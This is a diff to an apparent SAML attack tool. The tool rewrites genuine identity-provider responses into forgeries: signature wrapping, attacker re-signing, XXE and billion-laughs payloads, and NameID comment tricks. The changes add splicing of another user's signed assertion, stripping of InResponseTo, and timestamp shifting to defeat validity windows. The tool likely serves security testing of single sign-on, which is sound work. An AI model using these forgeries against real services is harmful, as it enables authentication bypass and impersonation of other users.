@@ -16,13 +16,17 @@ Options:
   --attacker-key PEM --attacker-cert PEM   resign-with-attacker-key
   --idp-key PEM --idp-cert PEM             resign-idp
   --set FIELD=VALUE     resign-idp: audience, recipient, destination, issuer, in_response_to,
-                        not_before, not_on_or_after (ISO 8601), nameid (repeatable)
+                        not_before, not_on_or_after (ISO 8601), nameid, shift (seconds
+                        added to every timestamp); in_response_to= removes it (repeatable)
   --listener URL        doctype-external-entity: the URL the entity points at
+  --other FILE          two-assertions: another genuine response (base64) whose signed
+                        assertion is added
 """
 
 import argparse
 import base64
 import copy
+import datetime
 import os
 import subprocess
 import sys
@@ -214,9 +218,17 @@ def unsigned_assertion_beside_signed(root, evil):
     return serialize(root)
 
 
-def two_assertions(root, _evil):
+def two_assertions(root, _evil, args):
+    """A second assertion after the signed one: the assertion of another genuine response
+    (`--other`, e.g. the IdP's answer to the same request for another user), signed and
+    with its own ID; without `--other`, an exact copy (the same ID twice)."""
     original = signed_assertion(root)
-    original.addnext(copy.deepcopy(original))
+    if args.other:
+        with open(args.other, encoding="ascii") as file:
+            other = parse(base64.b64decode("".join(file.read().split())))
+        original.addnext(signed_assertion(other))
+    else:
+        original.addnext(copy.deepcopy(original))
     return serialize(root)
 
 
@@ -297,8 +309,12 @@ def set_field(root, field, value):
         for issuer in root.xpath("saml:Issuer|saml:Assertion/saml:Issuer", namespaces=NS):
             issuer.text = value
     elif field == "in_response_to":
-        root.set("InResponseTo", value)
-        one(the_assertion, ".//saml:SubjectConfirmationData").set("InResponseTo", value)
+        confirmation = one(the_assertion, ".//saml:SubjectConfirmationData")
+        for element in (root, confirmation):
+            if value:
+                element.set("InResponseTo", value)
+            elif "InResponseTo" in element.attrib:
+                del element.attrib["InResponseTo"]
     elif field == "not_before":
         one(the_assertion, "saml:Conditions").set("NotBefore", value)
     elif field == "not_on_or_after":
@@ -306,8 +322,24 @@ def set_field(root, field, value):
         one(the_assertion, ".//saml:SubjectConfirmationData").set("NotOnOrAfter", value)
     elif field == "nameid":
         one(the_assertion, ".//saml:Subject/saml:NameID").text = value
+    elif field == "shift":
+        shift_times(root, int(value))
     else:
         raise AttackError(f"unknown field {field}")
+
+
+TIME_ATTRIBUTES = ("IssueInstant", "NotBefore", "NotOnOrAfter", "AuthnInstant", "SessionNotOnOrAfter")
+
+
+def shift_times(root, seconds):
+    """Moves every timestamp in the response by `seconds` (for a host whose clock was moved)."""
+    for element in root.iter():
+        for name in TIME_ATTRIBUTES:
+            value = element.get(name)
+            if value:
+                moment = datetime.datetime.fromisoformat(value.replace("Z", "+00:00"))
+                moved = moment + datetime.timedelta(seconds=seconds)
+                element.set(name, moved.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"))
 
 
 def resign_idp(root, _evil, args):
@@ -425,7 +457,6 @@ PLAIN = {
     "strip-signature-value": strip_signature_value,
     "corrupt-signature-value": corrupt_signature_value,
     "unsigned-assertion-beside-signed": unsigned_assertion_beside_signed,
-    "two-assertions": two_assertions,
     "billion-laughs": billion_laughs,
     "nameid-changed": nameid_changed,
     "attribute-changed": attribute_changed,
@@ -436,6 +467,7 @@ PLAIN = {
 WITH_ARGS = {
     "resign-with-attacker-key": resign_with_attacker_key,
     "resign-idp": resign_idp,
+    "two-assertions": two_assertions,
     "doctype-external-entity": doctype_external_entity,
     "comment-in-nameid": comment_in_nameid,
     "cdata-in-nameid": cdata_in_nameid,
@@ -454,6 +486,7 @@ def main():
     parser.add_argument("--idp-cert")
     parser.add_argument("--set", action="append", default=[])
     parser.add_argument("--listener")
+    parser.add_argument("--other")
     args = parser.parse_args()
     genuine = base64.b64decode("".join(sys.stdin.read().split()))
     root = parse(genuine)
